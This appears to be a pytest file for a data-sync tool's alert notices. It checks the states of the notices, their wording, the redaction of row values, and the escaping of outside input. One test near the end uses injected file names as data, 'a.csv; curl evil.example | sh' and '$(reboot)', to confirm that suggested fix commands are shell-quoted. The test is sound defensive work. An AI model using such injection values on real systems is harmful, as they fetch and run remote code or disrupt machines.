"""The notices Rowferry sends of itself: what state they tell of, and what they say."""

from __future__ import annotations

import shlex
from dataclasses import replace
from datetime import UTC, datetime

import pytest
from typer import Context
from typer.main import get_command

from rowferry.cli import cli
from rowferry.delivery.runs import RunResult
from rowferry.notices import kinds
from rowferry.notices.kinds import Change
from rowferry.notices.notice import OK

NOW = datetime(2026, 4, 14, 3, 50, tzinfo=UTC)
RUN = RunResult(
    "r1", "customers", "closed", read=10_000, unchanged=9_000, delivered=990, rejected=10,
    rejections=tuple({"key": "anna@example.com", "code": "bad_email", "reason": "anna@example.com is no address"} for _ in range(10)),
)  # fmt: skip
FAILED = replace(RUN, status="failed", rejections=(), reason="Braze answered 401: bad key")


@pytest.mark.parametrize(("status", "state"), [("failed", "failed"), ("refused", "refused"), ("closed", OK)])
def test_how_a_run_ended(status: str, state: str) -> None:
    """Failed and refused are news; closed is how it should be."""
    change = kinds.run_ended(replace(RUN, status=status))  # type: ignore[arg-type]  # a plain text stands for the Literal
    assert change is not None
    assert (change.topic, change.state) == ("sync/customers", state)


def test_an_open_run_is_no_news() -> None:
    """It is under way, or will be resumed."""
    assert kinds.run_ended(replace(RUN, status="open")) is None
    assert kinds.rows_rejected(replace(RUN, status="open"), 0) is None


def test_a_failed_run_has_numbers_reason_and_command() -> None:
    """What a person needs to act, in one message."""
    change = kinds.run_ended(FAILED)
    assert change is not None
    assert change.notice.row()["text"] == (
        ":rotating_light: *Sync customers failed*\nread 10,000 · unchanged 9,000 · delivered 990 · rejected 10 · pending 0\n"
        "Braze answered 401: bad key\n`rowferry sync customers`"
    )


@pytest.mark.parametrize(("percent", "state"), [(0, "rejected"), (0.9, "rejected"), (1, OK), (50, OK)])
def test_rejected_rows_above_a_share(percent: float, state: str) -> None:
    """Ten of a thousand is one percent: news where less is allowed."""
    change = kinds.rows_rejected(RUN, percent)
    assert change is not None
    assert change.state == state


@pytest.mark.parametrize(
    "change",
    [
        kinds.run_ended(FAILED),
        kinds.run_ended(replace(RUN, status="refused")),
        kinds.rows_rejected(RUN, 0),
        kinds.vendor_refused("braze", "bad key", 3),
        kinds.feed_late("crm", NOW, None),
        kinds.file_quarantined("crm", "crm/a b.csv", "line 4"),
        kinds.pull_failed("charged", "no answer"),
    ],
)
def test_the_command_in_a_notice_is_one(change: Change) -> None:
    """With arguments that it takes: somebody is about to paste it."""
    program, name, *arguments = shlex.split(change.notice.fix)
    group = get_command(cli)
    assert program == "rowferry"
    command = group.get_command(Context(group), name)  # type: ignore[attr-defined]  # a group, for there are several
    assert command.make_context(name, arguments).command is command


def test_a_run_that_sent_nothing_says_nothing_of_rejected_rows() -> None:
    """Neither bad nor good news: there was nothing to reject."""
    assert kinds.rows_rejected(replace(RUN, delivered=0, rejected=0, rejections=()), 0) is None


def test_no_notice_holds_a_value_of_a_row() -> None:
    """Keys and vendors' sentences on single rows stay in the dead letters; a notice counts codes."""
    change = kinds.rows_rejected(RUN, 0)
    assert change is not None
    assert "bad_email (10)" in change.notice.row()["text"]
    assert "anna" not in change.notice.row()["text"]


@pytest.mark.parametrize(
    ("bad", "good"),
    [
        (kinds.vendor_refused("braze", "401", 3), kinds.vendor_takes("braze")),
        (kinds.feed_late("crm", NOW, None), kinds.feed_on_time("crm", NOW)),
        (kinds.file_quarantined("crm", "a.csv", "no header"), kinds.file_loaded("crm", "a.csv", 5)),
    ],
)
def test_what_can_go_wrong_can_come_right(bad: Change, good: Change) -> None:
    """Each has its recovery under the same topic, and a command while it is bad."""
    assert bad.topic == good.topic
    assert (bad.state == OK, good.state) == (False, OK)
    assert "`rowferry " in bad.notice.row()["text"]
    assert bad.notice.headline().startswith(":rotating_light:")
    assert good.notice.headline().startswith(":white_check_mark:")


def test_names_from_outside_are_escaped_and_cut() -> None:
    """A file's name and a vendor's sentence come from others."""
    change = kinds.file_quarantined("crm", "<!here>.csv", "<a>" * 5000)
    text = change.notice.row()["text"]
    assert "<" not in text
    assert len(text) <= 3_500


@pytest.mark.parametrize(
    ("file", "command"),
    [
        ("crm/2026/a.csv", "rowferry load a.csv --feed crm"),
        ("crm/my file.csv", "rowferry load 'my file.csv' --feed crm"),
        ("crm/a.csv; curl evil.example | sh", "rowferry load 'a.csv; curl evil.example | sh' --feed crm"),
        ("$(reboot)", "rowferry load '$(reboot)' --feed crm"),
    ],
)
def test_the_command_for_a_file_runs_nothing_else(file: str, command: str) -> None:
    """Whoever may drop a file chooses its name, and somebody pastes the command into a shell."""
    assert kinds.file_quarantined("crm", file, "no header").notice.fix == command
